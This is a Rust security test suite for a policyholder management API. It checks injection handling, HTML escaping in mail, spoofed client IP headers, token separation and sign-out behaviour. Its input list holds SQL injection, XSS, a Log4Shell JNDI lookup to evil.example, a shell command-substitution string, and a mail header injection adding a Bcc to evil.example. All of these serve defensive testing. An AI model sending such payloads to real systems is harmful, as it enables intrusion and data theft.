//! Texts that are meant to be more than texts, headers that say who somebody is, and tokens in each other's place.

use crate::sign_in;
use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};
use chrono::TimeDelta;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use tests::{PASSWORD, TestCloud};

/// What an interpreter that somebody forgot would act on.
const TEXTS: [&str; 9] = [
    "'; DROP TABLE records; --",
    "\" OR begins_with(pk, \"org_\")",
    "#pk = :pk AND attribute_exists(sk)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://evil.example/a} {{7*7}}",
    "$(touch /tmp/hostile) `id` | cat",
    "%s %n {0} {}",
    "{\"$sealed\":\"v1.AAAA\"}",
];

#[tokio::test(flavor = "multi_thread")]
async fn a_text_is_nothing_but_a_text() {
    let cloud = TestCloud::start().await;
    let clerk = cloud.actor("clerk@demo.example").await;
    for text in TEXTS {
        let person = json!({ "name": text, "kana": "ヤマダ タロウ", "note": text });
        let made = clerk.post("/api/policyholders", person).await.expect(201);
        let shown = clerk.get(&format!("/api/policyholders/{}", made.id())).await.expect(200);
        assert_eq!((&shown.json["name"], &shown.json["note"]), (&json!(text), &json!(text)));
        let found = clerk.post("/api/policyholders/search", json!({ "name": text })).await.expect(200);
        let found: Vec<&Value> = found.json["items"].as_array().unwrap().iter().map(|item| &item["id"]).collect();
        assert_eq!(found, [&json!(made.id())], "{text}");
    }
    // What marks a value in the store is no text, and no caller may write it.
    let sealed = json!({ "name": { "$sealed": "v1.AAAA" }, "kana": "ヤマダ タロウ" });
    assert_eq!(clerk.post("/api/policyholders", sealed).await.expect(422).fields(), [("name".to_owned(), "type_invalid".to_owned())]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_is_nothing_but_a_name_in_a_mail() {
    let cloud = TestCloud::start().await;
    let opened = json!({
        "name": "<img src=x onerror=alert(1)>保険",
        "contract": { "start_date": "2026-10-01", "governing_law": "日本法", "jurisdiction": "東京地方裁判所" },
        "contacts": [{ "name": "業務部", "mail_address": "contact@hostile.example" }],
        "business_hours": { "days": ["monday"], "opens_at": "09:00", "closes_at": "18:00" },
        "administrator": { "name": "管理 八郎", "mail_address": "administrator@hostile.example" },
    });
    let reply = cloud.invoke("organization_open", opened).await;
    assert!(reply["code"].is_null(), "{reply}");
    let mail = cloud.mail_to("administrator@hostile.example").await.remove(0);
    let html = mail.html.unwrap();
    assert!(html.contains("&lt;img src=x") && !html.contains("<img"), "{html}");

    let administrator = cloud.actor("administrator@demo.example").await;
    let injected = json!({ "name": "x", "mail_address": "eve@demo.example\r\nBcc: all@evil.example", "roles": ["viewer"] });
    assert_eq!(administrator.post("/api/accounts", injected).await.expect(422).fields()[0].0, "mail_address");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_callers_say_of_their_address_is_not_believed() {
    let cloud = TestCloud::start().await;
    let clerk = cloud.nobody();
    let said = ["x-forwarded-for", "forwarded", "x-real-ip", "true-client-ip", "x-amzn-source-ip"].map(|name| (name, "203.0.113.9"));
    let account = json!({ "mail_address": "clerk@demo.example", "password": PASSWORD });
    let _session = clerk.with(&said).post("/api/sessions", account).await.expect(201);
    assert_eq!(clerk.get("/api/me").await.expect(200).json["last_sign_in"]["address"], "127.0.0.1");
}

#[tokio::test(flavor = "multi_thread")]
async fn every_body_says_what_it_is() {
    let cloud = TestCloud::start().await;
    let clerk = cloud.actor("clerk@demo.example").await;
    for (path, content_type) in [
        ("/api/me", "application/json"),
        ("/api/labels", "application/json"),
        ("/api/none", "application/problem+json"),
        ("/inquiry", "text/html; charset=utf-8"),
    ] {
        assert_eq!(clerk.get(path).await.header("content-type"), Some(content_type), "{path}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn each_token_opens_its_own_door_and_names_nobody() {
    let cloud = TestCloud::start().await;
    let clerk = cloud.actor("clerk@demo.example").await;
    let (access, refresh) = (clerk.cookie("__Host-access").unwrap(), clerk.cookie("__Host-refresh").unwrap());
    let claims = URL_SAFE_NO_PAD.decode(access.split('.').nth(1).unwrap()).unwrap();
    let claims: Value = serde_json::from_slice(&claims).unwrap();
    let members: BTreeSet<&str> = claims.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(members, BTreeSet::from(["aud", "exp", "iat", "iss", "org", "sid", "sub"]), "what a browser keeps names nobody");
    let secret = URL_SAFE_NO_PAD.decode(refresh.rsplit('.').next().unwrap()).unwrap();
    assert_eq!(secret.len(), 32, "256 random bits");

    let swapped = cloud.nobody();
    swapped.set_cookie("__Host-access", &refresh);
    swapped.set_cookie("__Host-refresh", &access);
    assert_eq!(swapped.get("/api/me").await.expect(401).code(), "session_invalid");
    let _refused = swapped.post("/api/sessions/refresh", json!({})).await.expect(401);
    // A bearer of the same token, as other services take it, is nobody here.
    let bearer = format!("Bearer {access}");
    assert_eq!(cloud.nobody().with(&[("authorization", bearer.as_str())]).get("/api/me").await.expect(401).code(), "session_missing");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_password_holds_until_it_is_changed() {
    let cloud = TestCloud::start().await;
    cloud.move_clock(TimeDelta::days(3650));
    assert!(sign_in(&cloud, "clerk@demo.example", PASSWORD).await.is_some(), "nobody has to change a password for its age");
}

#[tokio::test(flavor = "multi_thread")]
async fn signing_out_makes_the_browser_forget() {
    let cloud = TestCloud::start().await;
    let clerk = cloud.actor("clerk@demo.example").await;
    let signed_out = clerk.delete("/api/sessions/current").await.expect(204);
    let forgotten: BTreeSet<&str> = signed_out.header("clear-site-data").unwrap().split(", ").collect();
    assert_eq!(forgotten, BTreeSet::from(["\"cache\"", "\"storage\""]));
    for gone in ["__Host-access", "__Host-refresh"] {
        assert!(clerk.cookie(gone).is_none(), "{gone}");
    }
    assert!(clerk.cookie("__Host-device").is_some(), "the device is a stranger again");
}
